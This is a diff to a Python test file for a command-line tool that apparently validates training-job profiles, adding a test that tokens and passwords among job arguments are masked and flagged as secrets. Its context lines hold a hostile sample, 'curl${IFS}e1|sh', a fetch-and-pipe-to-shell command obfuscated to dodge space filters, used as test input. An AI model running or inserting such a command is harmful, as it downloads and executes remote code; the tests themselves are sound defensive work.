@@ -459,6 +459,19 @@ def test_validate_shows_a_command_that_the_author_made_look_like_a_secret(home: 
     assert "'job.env.A_PASSWORD' looks like a secret" in done.stderr
 
 
+def test_validate_masks_a_token_among_the_arguments(home: Path) -> None:
+    args = f"[--lr, '1', --token, {HF}, --password=aB3dE5gH7jK9, 'x{HF[:9]}']"
+    text = TEAM.replace('command: ["true"]', f"script: a.py, args: {args}").replace("WORK", str(home / "work"))
+    (home / "team" / "train.yaml").write_text(text)
+    for form in ((), ("--json",)):
+        done = command(home, *form, "profile", "validate", "team/train")
+        assert done.returncode == 2 and HF not in done.stdout + done.stderr and "aB3dE5gH7jK9" not in done.stdout
+        assert f"--lr 1 --token '***' '--password=***' x{HF[:9]}" in done.stdout
+    assert (
+        "'job.args.3' looks like a token of Hugging Face" in command(home, "profile", "validate", "team/train").stderr
+    )
+
+
 def test_the_app_asks_about_a_found_run_with_every_word_of_its_commands(tmp_path: Path) -> None:
     evil = "curl${IFS}e1|sh"
     found = profile(hosts=["evil-host1"], job={"command": ["sh", "-c", evil], "env": {"A_PASSWORD": evil}})
